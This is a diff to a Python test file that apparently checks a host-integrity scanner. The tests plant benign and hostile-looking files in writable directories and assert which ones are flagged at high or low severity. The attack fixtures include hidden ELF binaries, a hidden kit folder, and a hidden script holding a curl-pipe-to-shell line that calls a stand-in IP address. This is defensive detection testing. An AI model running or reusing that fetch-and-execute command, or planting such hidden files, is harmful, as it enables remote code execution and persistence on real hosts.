@@ -137,12 +137,24 @@ def _writable_root(root: Path, attack: bool) -> dict[str, str]:
     put("/tmp/libnetty_transport_native_epoll_x86_64123.so", _library(), 0o644)
     put("/var/tmp/apt-dpkg-install-Xy12/postinst-helper", b"#!/bin/sh\nexit 0\n")
     put("/tmp/report.csv", b"a,b\n1,2\n", 0o644)
+    # a project someone cloned and built in /tmp: git's own hook samples (scripts in a hidden folder deep in
+    # the tree), a prebuilt ELF program in node_modules, hundreds of files
+    need(shutil.which("git") is not None, "git not installed")
+    project = root / "tmp/build/project"
+    project.mkdir(parents=True)
+    subprocess.run(["git", "init", "-q", str(project)], check=True, capture_output=True)
+    put("/tmp/build/project/node_modules/@esbuild/linux-x64/bin/esbuild", TRUE)
+    for i in range(60):
+        put(f"/tmp/build/project/src/m{i}.js", b"module.exports = 1\n", 0o644)
     os.mkfifo(root / "tmp/fifo")  # never opened
     os.symlink("/etc/shadow", root / "tmp/shadow-link")  # never followed
     if attack:
         put("/tmp/.ICE-unix/.x/kworkerd", TRUE)  # a hidden ELF
         put("/dev/shm/payload", TRUE)  # an ELF program, not hidden
         put("/var/tmp/.cache/.update.sh", b"#!/bin/sh\ncurl -s http://203.0.113.5/x | sh\n")  # a hidden script
+        for i in range(80):  # a big kit in a hidden folder: hidden, whatever its size
+            put(f"/tmp/.X25-unix/.rsync/c/lib{i}.txt", b"x\n", 0o644)
+        put("/tmp/.X25-unix/.rsync/c/tsm", TRUE)
     return planted
 
 
@@ -156,7 +168,11 @@ def test_writable_places(tmp_path):
     shutil.copy(TRUE, deep / "too-deep")
     rows, problems, copies, _ = _collect(root, max_depth=8)
     seen = _by_path([r for r in rows if r["place"] == "writable"])
-    assert set(seen) == set(planted), sorted(seen)  # no FIFO, no link, nothing below the depth limit, once each
+    git = {p for p in seen if p.startswith("/tmp/build/project/.git/")}
+    assert set(seen) - git == set(planted), sorted(seen)  # no FIFO, no link, nothing too deep, once each
+    hook = seen["/tmp/build/project/.git/hooks/pre-commit.sample"]
+    assert hook["hidden_path"] and not hook["hidden"] and hook["tree"] == "/tmp/build" and hook["tree_files"] > 60
+    assert seen["/dev/shm/payload"]["tree_files"] == 1
     assert any("depth limit 8" in p.message for p in problems)
     kworker = seen["/tmp/.ICE-unix/.x/kworkerd"]
     assert kworker["hidden"] and kworker["file_type"] == "elf" and kworker["elf_kind"] == "executable"
@@ -189,13 +205,17 @@ def test_writable_rules(tmp_path):
     _writable_root(clean, attack=False)
     found = _findings(_collect(attack)[0])
     high = {f["path"] for f in found["TRI-INTEG-001"]}
-    assert high == {"/tmp/.ICE-unix/.x/kworkerd", "/dev/shm/payload", "/var/tmp/.cache/.update.sh"}
+    assert high == {"/tmp/.ICE-unix/.x/kworkerd", "/dev/shm/payload", "/var/tmp/.cache/.update.sh",
+                    "/tmp/.X25-unix/.rsync/c/tsm"}
     assert all(f["severity"] == "high" and f["sha256"] for f in found["TRI-INTEG-001"])
     benign = _findings(_collect(clean)[0])
     assert "TRI-INTEG-001" not in benign
-    assert {f["path"] for f in benign["TRI-INTEG-002"]} == {
+    low = {f["path"] for f in benign["TRI-INTEG-002"]}
+    assert low >= {
         "/tmp/vendor-agent-install.sh", "/tmp/systemd-private-5f1c-chrony.service-AbCd/tmp/helper",
-        "/tmp/libnetty_transport_native_epoll_x86_64123.so", "/var/tmp/apt-dpkg-install-Xy12/postinst-helper"}
+        "/tmp/libnetty_transport_native_epoll_x86_64123.so", "/var/tmp/apt-dpkg-install-Xy12/postinst-helper",
+        "/tmp/build/project/node_modules/@esbuild/linux-x64/bin/esbuild",
+        "/tmp/build/project/.git/hooks/pre-commit.sample"}
     assert {f["severity"] for fs in benign.values() for f in fs} == {"low"}
 
 
